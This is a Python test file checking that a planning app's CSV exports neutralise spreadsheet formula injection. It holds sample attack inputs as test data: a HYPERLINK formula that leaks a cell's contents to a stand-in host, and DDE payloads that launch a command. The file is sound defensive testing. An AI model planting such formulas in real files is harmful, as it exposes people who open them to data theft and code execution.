"""Every CSV the planner writes is safe to open in a spreadsheet (pen test: formula injection).

Text cells that start with = + - @, a tab or a carriage return get a leading single quote
(OWASP); numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import update

from campaigns.extensions import db
from campaigns.models import Area, RankingRun
from targeting.cli import main as targeting_cli
from targeting.csv_cells import csv_bytes, csv_text, neutralise_cell
from targeting.demo import load_demo_areas, synthetic_counts, synthetic_incidents
from tests.conftest import demo_client, georgia_id

PAYLOADS = {  # area code -> (new code, new name)
    "13137": ("-2+3", '=HYPERLINK("http://evil.example/?d="&A1,"details")'),
    "13139": ("@SUM(1+1)", "+cmd|' /C calc'!A0"),
    "13121": ("=1+1", "@SUM(A1:A9)"),
    "13089": ("+44", "\t=cmd|' /C calc'!A0"),
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_spreadsheet_safe(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: any cell starting with a trigger is a plain number."""
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                assert NUMBER.fullmatch(cell), (cell, row)


def _plant(app: Flask) -> None:
    with app.app_context():
        set_id = georgia_id(app)
        for code, (new_code, name) in PAYLOADS.items():
            db.session.execute(update(Area).where(Area.boundary_set_id == set_id, Area.code == code)
                               .values(code=new_code, name=name))
        db.session.commit()


def _rank(client: FlaskClient, set_id: int) -> str:
    page = client.get(f"/targeting/sets/{set_id}/rank").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]
    response = client.post(f"/targeting/sets/{set_id}/rank", data={
        "csrf_token": token, "period": "2024", "w_rate": "0.4", "w_hotspot": "0.3", "w_trend": "0.2",
        "w_volume": "0.1", "smoothing": "global"})
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    return str(response.headers["Location"])


def test_counts_csv(demo_app: Flask) -> None:
    _plant(demo_app)
    client = demo_client(demo_app)
    rows = _cells(client.get(f"/targeting/sets/{georgia_id(demo_app)}/counts.csv").get_data(as_text=True))
    assert_spreadsheet_safe(rows)
    by_name = {row[1]: row for row in rows if len(row) > 2}
    assert by_name["'" + PAYLOADS["13137"][1]][0] == "'-2+3"
    assert by_name["'+cmd|' /C calc'!A0"][0] == "'@SUM(1+1)"
    assert by_name["'@SUM(A1:A9)"][0] == "'=1+1"
    assert by_name["'\t=cmd|' /C calc'!A0"][0] == "+44"  # a number, if an odd code: left alone
    assert all(cell.isdigit() or cell == "suppressed" for cell in by_name["'@SUM(A1:A9)"][3:])


def test_ranking_export_and_segments_csv(demo_app: Flask) -> None:
    _plant(demo_app)
    client = demo_client(demo_app)
    run_url = _rank(client, georgia_id(demo_app))
    text = client.get(run_url + "/export.csv").get_data(as_text=True)
    rows = _cells(text)
    assert_spreadsheet_safe(rows)
    header, body = rows[0], rows[1:]
    ids = {row[header.index("area_id")]: row for row in body}
    assert {"'-2+3", "'@SUM(1+1)", "'=1+1", "+44"} <= set(ids)
    assert ids["'@SUM(1+1)"][header.index("name")] == "'+cmd|' /C calc'!A0"
    table = pd.read_csv(io.StringIO(text))  # numbers are still numbers, negative ones too
    for column in ("rank", "score", "population", "gi_z"):
        assert pd.api.types.is_numeric_dtype(table[column]), column
    assert (table["gi_z"] < 0).any()

    with demo_app.app_context():
        run = db.session.get(RankingRun, int(run_url.rstrip("/").rsplit("/", 1)[1]))
        assert run is not None
        run.segments = [{"rank": 1, "segment": "=HYPERLINK(\"http://evil.example\")", "count": 40,
                         "population": 1000, "relative_risk": -1.5, "languages": ["@x", "en"],
                         "suppressed": False}]
        db.session.commit()
    segments = _cells(client.get(run_url + "/segments.csv").get_data(as_text=True))
    assert_spreadsheet_safe(segments)
    assert segments[1][1] == "'=HYPERLINK(\"http://evil.example\")"
    assert segments[1][4] == "-1.5" and segments[1][9] == "'@x en"


def test_cli_export(tmp_path: Path) -> None:
    areas = load_demo_areas("georgia")
    counts = synthetic_counts(synthetic_incidents(areas))
    for code, (new_code, name) in PAYLOADS.items():
        areas.loc[areas["area_id"] == code, ["area_id", "name"]] = [new_code, name]
        counts.loc[counts["area_id"] == code, "area_id"] = new_code
    areas.to_file(tmp_path / "areas.gpkg", driver="GPKG")
    counts.to_csv(tmp_path / "counts.csv", index=False)
    out = tmp_path / "ranking.csv"
    status = targeting_cli(["rank", "--areas", str(tmp_path / "areas.gpkg"), "--id-field", "area_id",
                            "--name-field", "name", "--population-field", "population",
                            "--counts", str(tmp_path / "counts.csv"), "--out", str(out), "--quiet"])
    assert status == 0
    rows = _cells(out.read_text(encoding="utf-8"))
    assert_spreadsheet_safe(rows)
    names = {row[rows[0].index("name")] for row in rows[1:]}
    assert "'@SUM(A1:A9)" in names and "'" + PAYLOADS["13137"][1] in names


def test_the_shared_function() -> None:
    for text in ["=1+1", "+cmd", "-2+3", "@SUM(1)", "\t=x", "\r=x", "-", "+", "=", "-inf", "--1"]:
        assert neutralise_cell(text) == "'" + text, text
    for value in ["-5", "+5", "-2.5", "1e-3", "-1E+5", ".5", "Atlanta", "# note", "", -3, -2.5, None, True]:
        assert neutralise_cell(value) == value, value
    assert csv_text([["=a", -1, "-1"]]) == "'=a,-1,-1\r\n"
    frame = pd.DataFrame({"=col": ["@a", "b"], "n": [-1, 2], "f": [-0.5, float("nan")]})
    assert csv_bytes(frame).decode() == "'=col,n,f\n'@a,-1,-0.5\nb,2,\n"
